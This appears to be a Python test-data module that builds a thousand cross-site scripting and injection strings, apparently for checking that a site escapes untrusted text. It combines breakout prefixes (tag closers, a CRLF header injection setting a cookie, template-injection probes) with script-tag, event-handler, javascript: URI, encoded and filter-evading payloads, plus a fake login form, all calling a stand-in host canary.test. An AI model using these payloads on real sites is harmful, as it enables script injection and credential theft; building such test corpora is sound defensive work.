"""A thousand strings that mean harm, each with a canary of its own number: a script that sets `window.canary`, says it in a
dialog and asks canary.test for it; a style, a picture or a form that asks for it; an element `<canary>` that has no
business on any page of ours. Where one of them shows as anything but text, something can be seen to happen."""

# To get out of where one is shown: text, a title, a value, a comment, a script, a style, a header, a log line.
BREAKOUTS = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</table>",
    "-->",
    "]]>",
    "&quot;&gt;",
    "\\\"));",
    "\r\nSet-Cookie: canary=1\r\nContent-Type: text/html\r\n\r\n",
    "\u202e",
    "\ufeff\u2028",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\x00\x08",
]

RUN = "window.canary=NUMBER;alert('canary NUMBER');fetch('//canary.test/NUMBER')"

# What then does harm. NUMBER is the canary's own.
PAYLOADS = [
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT>",
    "<script src=//canary.test/NUMBER></script>",
    "<script/x>RUN</script/y>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=\"RUN\">",
    "<img src=//canary.test/NUMBER>",
    "<img srcset='//canary.test/NUMBER 1x'>",
    "<svg onload=\"RUN\">",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><use href='//canary.test/NUMBER#x'/></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\">",
    "<math href='javascript:RUN'>x</math>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.canary=NUMBER</script>'></iframe>",
    "<object data='//canary.test/NUMBER'></object>",
    "<embed src='//canary.test/NUMBER'>",
    "<link rel=stylesheet href='//canary.test/NUMBER'>",
    "<link rel=preload as=image href='//canary.test/NUMBER'>",
    "<style>@import '//canary.test/NUMBER';</style>",
    "<style>body{background:url(//canary.test/NUMBER)}</style>",
    "<base href='//canary.test/NUMBER/'>",
    "<meta http-equiv=refresh content='0;url=//canary.test/NUMBER'>",
    "<form action='//canary.test/NUMBER'><input name=token autofocus><button>Log in</button></form>",
    "<input autofocus onfocus=\"RUN\">",
    "<body onload=\"RUN\">",
    "<details open ontoggle=\"RUN\">",
    "<video src=x onerror=\"RUN\">",
    "<audio src=//canary.test/NUMBER autoplay>",
    "<marquee onstart=\"RUN\">",
    "<template shadowrootmode=open><script>RUN</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<canary id=main name=canary=NUMBER>",
    "<a href=\"javascript:RUN\">x</a>",
    "<xmp><img src=x onerror=RUN></xmp>",
    "javascript:RUN",
    "JaVaScRiPt&colon;RUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
    "//canary.test/NUMBER",
    " onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=",
    " style=\"background:url(//canary.test/NUMBER)\" x=",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "%3Cscript%3ERUN%3C/script%3E",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u202e<script>RUN</script>\u202c\u2066x\u2069",
]


def strings():
    """The same thousand each time."""
    made = []
    for breakout in BREAKOUTS:
        for payload in PAYLOADS:
            text = breakout + payload.replace("RUN", RUN)
            made.append(text.replace("NUMBER", str(1000 + len(made))))
    assert len(made) == len(set(made)) == 1000
    return made
